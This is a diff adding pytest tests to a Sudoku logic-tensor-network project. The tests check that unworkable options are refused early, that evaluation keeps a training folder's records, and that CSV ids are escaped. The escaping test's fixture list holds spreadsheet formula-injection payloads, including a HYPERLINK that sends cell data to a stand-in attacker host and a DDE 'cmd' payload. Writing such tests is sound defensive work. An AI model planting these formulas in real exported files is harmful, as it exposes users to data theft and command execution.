@@ -449,3 +449,96 @@ def test_every_registered_download_has_a_limit() -> None:
         assert f.transfer_cap is not None and f.size is not None and f.transfer_cap >= f.size, f.path
         if f.transform is None:
             assert f.transfer_cap == f.size, f.path
+
+
+# ---- cases 8 and 11: options checked where they are read, before any work -------------------------------------------
+def refused(capsys: pytest.CaptureFixture[str], entry: str, argv: list[str], *words: str) -> str:
+    """The entry point's checks before Hydra starts, in this process: one line naming the key, exit 2."""
+    from ltn_sudoku.logic.commands.check import check_command_line
+
+    with pytest.raises(SystemExit) as info:
+        check_command_line(argv, entry)
+    assert info.value.code == 2
+    return one_error_line(capsys.readouterr().err, *words)
+
+
+@pytest.mark.parametrize(("entry", "overrides", "words"), [
+    ("train", ["threads=100000"], ["threads=100000", "the CPUs of this machine"]),
+    ("evaluate", ["threads=100000"], ["threads=100000"]),
+    ("train", ["run_dir=/proc/x"], ["run_dir=/proc/x", "no folder can be made in /proc"]),
+    ("evaluate", ["run_dir=/proc/x/y"], ["run_dir=/proc/x/y", "no folder can be made in /proc"]),
+    ("evaluate", ["evaluate.solving=0"], ["evaluate.solving=0", "expected an integer >= 1"]),
+    ("train", ["data.train.solvable=0"], ["data.train.solvable=0", "no solvable training puzzles"]),
+    ("train", ["data.val.solvable=0"], ["data.val.solvable=0", "no solvable validation puzzles"]),
+    ("train", ["train.curriculum.epochs=2"], ["train.curriculum.start_givens=30", "at most 15 givens",
+                                              "train.curriculum.epochs=2"]),
+], ids=["threads-train", "threads-evaluate", "run-dir-proc", "run-dir-proc-evaluate", "evaluate-solving-0",
+        "no-training-boards", "no-validation-boards", "curriculum-4x4"])
+def test_options_that_cannot_work_are_one_line_before_any_work(capsys: pytest.CaptureFixture[str], tmp_path: Path,
+                                                               entry: str, overrides: list[str],
+                                                               words: list[str]) -> None:
+    where = [] if any(o.startswith("run_dir=") for o in overrides) else [f"run_dir={tmp_path / 'run'}"]
+    refused(capsys, entry, ["model=4x4", *TINY, "train.epochs=1", *where, *overrides], *words)
+    assert not (tmp_path / "run").exists()
+
+
+def test_a_file_in_the_way_of_run_dir_is_one_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    (tmp_path / "file").write_text(VICTIM)
+    refused(capsys, "train", ["model=4x4", *TINY, f"run_dir={tmp_path / 'file' / 'run'}"], "is a file, not a folder")
+    assert (tmp_path / "file").read_text() == VICTIM
+
+
+# ---- case 3: evaluate into a finished training's folder -----------------------------------------------------------------
+@pytest.mark.slow
+def test_evaluate_into_a_training_folder_writes_beside_its_record(tmp_path: Path) -> None:
+    """`evaluate checkpoint=RUN/best.pt run_dir=RUN`: the training's metrics.json (and its TensorBoard events) are
+    kept as they were; the evaluation goes to RUN/evaluation/."""
+    from ltn_sudoku.logic.evaluation.evaluate import evaluate
+    from ltn_sudoku.logic.kinds import train
+    from tests.test_train import TINY_EVAL
+
+    run = tmp_path / "run"
+    train(config(run, "train.epochs=1"))
+    record = (run / "metrics.json").read_bytes()
+    events = sorted(p.name for p in (run / "tb").iterdir())
+    evaluate(config(run, f"checkpoint={run / 'best.pt'}", *TINY_EVAL, "evaluate.search.puzzles=0"))
+    assert (run / "metrics.json").read_bytes() == record
+    assert sorted(p.name for p in (run / "tb").iterdir()) == events
+    report = json.loads((run / "evaluation" / "metrics.json").read_text())
+    assert report["checkpoint"] == str(run / "best.pt") and "tables" in report
+
+
+# ---- case 12: CSV fields a spreadsheet would run ------------------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+            "-2+3", "\t=1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "at", "minus", "tab"])
+def test_a_table_id_that_is_a_formula_is_written_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str],
+                                                         formula: str) -> None:
+    import csv
+
+    table = tmp_path / "boards.csv"
+    with table.open("w", newline="") as f:
+        csv.writer(f).writerows([["puzzle", "id"], ["1234341221434321", formula], ["1234341221434321", "-0.5"]])
+    out = tmp_path / "r.csv"
+    status, _, err = cli(capsys, "classify", str(table), "--no-ltn", "--no-heuristics", "--out", str(out))
+    assert status == 0, err
+    with out.open(newline="") as f:
+        ids = [row["id"] for row in csv.DictReader(f)]
+    assert ids == ["'" + formula, "-0.5"]  # shown as text; a number stays a number
+    jsonl = tmp_path / "r.jsonl"
+    assert cli(capsys, "classify", str(table), "--no-ltn", "--no-heuristics", "--out", str(jsonl))[0] == 0
+    assert json.loads(jsonl.read_text().splitlines()[0])["id"] == formula  # JSON is no spreadsheet: as it was
+
+
+def test_a_curriculum_above_the_densest_board_is_refused_before_any_step(tmp_path: Path) -> None:
+    """start_givens=15 passes the size rule on 4x4 (an open board may have 15 givens), but the boards made have
+    fewer: refused once they are made, before a training step."""
+    from ltn_sudoku.logic.kinds import train
+
+    with pytest.raises(ConfigError, match=r"train.curriculum.start_givens=15: the densest training board has 1[0-4] "
+                                          r"givens"):
+        train(config(tmp_path / "run", "train.epochs=1", "train.curriculum.epochs=2",
+                     "train.curriculum.start_givens=15"))
+    assert not (tmp_path / "run" / "last.pt").exists()
